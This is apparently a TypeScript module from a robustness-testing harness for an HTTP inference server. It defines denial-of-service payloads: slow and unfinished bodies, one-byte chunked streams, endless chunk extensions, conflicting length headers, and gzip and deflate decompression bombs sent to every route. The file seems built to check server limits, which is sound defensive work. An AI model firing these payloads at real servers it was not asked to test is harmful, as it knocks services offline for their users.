/** Attacks with invalid framing, compressed bodies and incomplete bodies. */
import { randomBytes } from 'node:crypto';
import { again, atOnce, inferPath, largest, Tally, type Attack, type Target } from '../attack';
import { deflate, filled, gzip, MIB } from '../wire/bytes';
import { ask, head, hold, JSON_TYPE, PACKED, RawConnection, until } from '../wire/http1';

/** JSON request with about `size` bytes of empty objects as inputs. */
function emptyObjects(size: number): Buffer {
  return Buffer.concat([Buffer.from('{"inputs":['), filled(size - 20, '{},'), Buffer.from('{}]}')]);
}

async function packedAtOnce(target: Target, times: number, body: Buffer, path = inferPath(target)): Promise<Tally> {
  const tally = new Tally();
  await atOnce(times, () => ask(target, tally, { path, headers: PACKED, body }));
  return tally;
}

/** All routes of the server, and a path that does not exist. */
function routes({ model }: Target): [method: string, path: string][] {
  const model_ = `/v2/models/${model}`;
  return [
    ['POST', '/v2/repository/index'],
    ['POST', `/v2/repository/models/${model}/load`],
    ['POST', `/v2/repository/models/${model}/unload`],
    ['GET', '/v2/health/live'],
    ['GET', '/v2/health/ready'],
    ['GET', '/v2'],
    ['GET', model_],
    ['GET', `${model_}/ready`],
    ['GET', `${model_}/config`],
    ['GET', `${model_}/stats`],
    ['GET', '/openapi.json'],
    ['GET', '/'],
    ['POST', `${model_}/classify`],
    ['POST', `${model_}/infer`],
    ['POST', `${model_}/versions/1/infer`],
    ['PUT', model_],
    ['POST', '/no/such/route'],
  ];
}

export const bodies: readonly Attack[] = [
  {
    name: 'unfinished-bodies',
    what: '12 bodies of the largest size that lack their last byte, held open',
    short: true,
    async run(target) {
      const tally = new Tally();
      const size = largest(target);
      await hold(target, tally, 12, async (connection) => {
        await connection.write(head('POST', inferPath(target), { ...JSON_TYPE, 'Content-Length': size }));
        for (let left = size - 1; left > 0 && !connection.closed; left -= MIB) {
          await connection.write(filled(Math.min(MIB, left), ' '));
        }
      });
      return tally;
    },
  },
  {
    name: 'unfinished-small-bodies',
    what: '1,000 bodies of 60 KiB that lack their last byte, held open',
    async run(target) {
      const tally = new Tally();
      const size = 60 * 1024;
      await hold(target, tally, 1000, async (connection) => {
        await connection.write(head('POST', inferPath(target), { ...JSON_TYPE, 'Content-Length': size }));
        await connection.write(filled(size - 1, ' '));
      });
      return tally;
    },
  },
  {
    name: 'trickled-bodies',
    what: '300 bodies that arrive one byte at a time',
    async run(target) {
      const tally = new Tally();
      const end = performance.now() + target.seconds * 1000;
      await hold(target, tally, 300, async (connection) => {
        await connection.write(head('POST', inferPath(target), { ...JSON_TYPE, 'Content-Length': largest(target) }));
        while (performance.now() < end - 500 && !connection.closed) {
          await connection.write(' ');
          await until(performance.now() + 200);
        }
      });
      return tally;
    },
  },
  {
    name: 'one-byte-chunks',
    what: '8 clients whose bodies are sent in chunks of one byte',
    short: true,
    async run(target) {
      const tally = new Tally();
      const end = performance.now() + target.seconds * 1000;
      const chunks = filled(64 * 1024, '1\r\n \r\n');
      await hold(target, tally, 8, async (connection) => {
        await connection.write(head('POST', inferPath(target), { ...JSON_TYPE, 'Transfer-Encoding': 'chunked' }));
        while (performance.now() < end - 500 && !connection.closed) await connection.write(chunks);
      });
      return tally;
    },
  },
  {
    name: 'tiny-chunks-of-many',
    what: '300 clients that send bodies in chunks of one byte with an extension, and reconnect when they are disconnected',
    async run(target) {
      const tally = new Tally();
      const chunks = filled(64 * 1024, '1;aaaaaaaa\r\nx\r\n');
      const first = head('POST', inferPath(target), { ...JSON_TYPE, 'Transfer-Encoding': 'chunked' });
      const end = performance.now() + target.seconds * 1000;
      const one = async () => {
        while (performance.now() < end) {
          const connection = await RawConnection.open(target);
          await connection.write(first);
          while (performance.now() < end && !connection.closed) {
            await Promise.all([connection.write(chunks, 1000), until(performance.now() + 260)]);
          }
          tally.add(connection.status, connection.sent);
          connection.close();
        }
      };
      await Promise.all(Array.from({ length: 300 }, one));
      return tally;
    },
  },
  {
    name: 'chunk-extensions',
    what: '8 chunked bodies whose first chunk has an endless extension',
    async run(target) {
      const tally = new Tally();
      const end = performance.now() + target.seconds * 1000;
      await hold(target, tally, 8, async (connection) => {
        await connection.write(head('POST', inferPath(target), { ...JSON_TYPE, 'Transfer-Encoding': 'chunked' }));
        await connection.write('1;');
        while (performance.now() < end - 500 && !connection.closed) await connection.write(filled(64 * 1024, 'x'));
      });
      return tally;
    },
  },
  {
    name: 'wrong-lengths',
    what: 'bodies with two lengths, with a length and chunks, or with negative and huge lengths',
    statuses: /^(HTTP (400|413|411)|closed.*)$/,
    async run(target) {
      const tally = new Tally();
      const path = inferPath(target);
      const heads = [
        head('POST', path, { 'Content-Length': 5, 'content-length': 7 }),
        head('POST', path, { 'Content-Length': 5, 'Transfer-Encoding': 'chunked' }),
        head('POST', path, { 'Content-Length': -1 }),
        head('POST', path, { 'Content-Length': '99999999999999999999' }),
        head('POST', path, { 'Content-Length': 2 ** 40 }),
        head('POST', path, { 'Transfer-Encoding': 'chunked, chunked' }),
      ];
      await hold(target, tally, 60, (connection, index) => connection.write(`${heads[index % heads.length]}{"a"`), {
        seconds: 2,
      });
      return tally;
    },
  },
  {
    name: 'gzip-bomb-on-every-route',
    what: 'empty objects of the largest size in gzip, to every route at once',
    short: true,
    async run(target) {
      const tally = new Tally();
      const body = gzip(emptyObjects(largest(target)));
      const all = routes(target);
      await atOnce(all.length, async (index) => {
        const [method, path] = all[index]!;
        await ask(target, tally, { method, path, headers: PACKED, body });
      });
      return tally;
    },
  },
  {
    name: 'gzip-of-62-mib',
    what: '62 MiB of empty objects in gzip, by four clients at once',
    run: (target) => packedAtOnce(target, 4, gzip(emptyObjects(62 * MIB))),
  },
  {
    name: 'gzip-of-600-mb',
    what: '600 MB of spaces in gzip, longer than a string in V8',
    statuses: /^(HTTP (413|429)|closed.*)$/,
    short: true,
    run: (target) => packedAtOnce(target, 2, gzip(Buffer.alloc(600e6, ' '))),
  },
  {
    name: 'gzip-of-zeros-16-times',
    what: '16 bodies of the largest size at once, in gzip, all zeros',
    statuses: /^(HTTP (400|408|413|429)|closed.*)$/,
    run: (target) => packedAtOnce(target, 16, gzip(Buffer.alloc(largest(target)))),
  },
  {
    name: 'gzip-in-gzip',
    what: 'gzip of gzip of 500 MB of zeros, with and without a header that declares both',
    statuses: /^(HTTP (400|413|415|429)|closed.*)$/,
    async run(target) {
      const tally = new Tally();
      const body = gzip(gzip(Buffer.alloc(500e6)));
      const codings = ['gzip', 'gzip, gzip', 'gzip,gzip,gzip', 'identity, gzip'];
      await atOnce(8, (index) =>
        ask(target, tally, {
          path: inferPath(target),
          headers: { ...JSON_TYPE, 'content-encoding': codings[index % codings.length] },
          body,
        }),
      );
      return tally;
    },
  },
  {
    name: 'deflate-bomb',
    what: 'empty objects of the largest size and of 62 MiB in deflate, and in br, which the server does not support',
    async run(target) {
      const tally = new Tally();
      const packed = [deflate(emptyObjects(largest(target))), deflate(emptyObjects(62 * MIB))];
      await atOnce(8, (index) =>
        ask(target, tally, {
          path: inferPath(target),
          headers: { ...JSON_TYPE, 'content-encoding': index < 6 ? 'deflate' : 'br' },
          body: packed[index % 2],
        }),
      );
      return tally;
    },
  },
  {
    name: 'gzip-members',
    what: 'a gzip file of half a million empty members',
    statuses: /^(HTTP (400|408|413|429)|closed.*)$/,
    async run(target) {
      const tally = new Tally();
      const body = filled(Math.min(10 * MIB, largest(target)), gzip(Buffer.alloc(0)));
      await again(4, target.seconds, () => ask(target, tally, { path: inferPath(target), headers: PACKED, body }));
      return tally;
    },
  },
  {
    name: 'gzip-members-each-large',
    what: 'a gzip file of many members of 1 MiB each, 600 MB in total',
    statuses: /^(HTTP (400|408|413|429)|closed.*)$/,
    run: (target) => packedAtOnce(target, 8, filled(600 * 1100, gzip(Buffer.alloc(MIB)))),
  },
  {
    name: 'gzip-truncated',
    what: '16 gzip files of the largest size that lack their last bytes, held open',
    async run(target) {
      const tally = new Tally();
      const body = gzip(emptyObjects(largest(target)));
      await hold(target, tally, 16, async (connection) => {
        await connection.write(head('POST', inferPath(target), { ...PACKED, 'Content-Length': body.length }));
        await connection.write(body.subarray(0, body.length - 5));
      });
      return tally;
    },
  },
  {
    name: 'gzip-trickled',
    what: 'gzip files in which every byte inflates to 1 KiB, sent a few bytes at a time by 32 clients',
    async run(target) {
      const tally = new Tally();
      const body = gzip(filled(largest(target), ' '));
      const end = performance.now() + target.seconds * 1000;
      await hold(target, tally, 32, async (connection) => {
        await connection.write(head('POST', inferPath(target), { ...PACKED, 'Content-Length': body.length }));
        for (let at = 0; at < body.length && performance.now() < end - 500 && !connection.closed; at += 200) {
          await connection.write(body.subarray(at, at + 200));
          await until(performance.now() + 50);
        }
      });
      return tally;
    },
  },
  {
    name: 'gzip-that-does-not-compress',
    what: 'random bytes of the largest size in gzip, repeatedly by four clients',
    statuses: /^(HTTP (400|408|413|429)|closed.*)$/,
    async run(target) {
      const tally = new Tally();
      const body = gzip(randomBytes(largest(target)));
      await again(4, target.seconds, () => ask(target, tally, { path: inferPath(target), headers: PACKED, body }));
      return tally;
    },
  },
  {
    name: 'largest-bodies-of-spaces',
    what: '16 complete bodies of the largest size at once, all spaces',
    statuses: /^(HTTP (400|408|413|429)|closed.*)$/,
    async run(target) {
      const tally = new Tally();
      const body = filled(largest(target), ' ');
      await atOnce(16, () => ask(target, tally, { path: inferPath(target), headers: JSON_TYPE, body }));
      return tally;
    },
  },
];
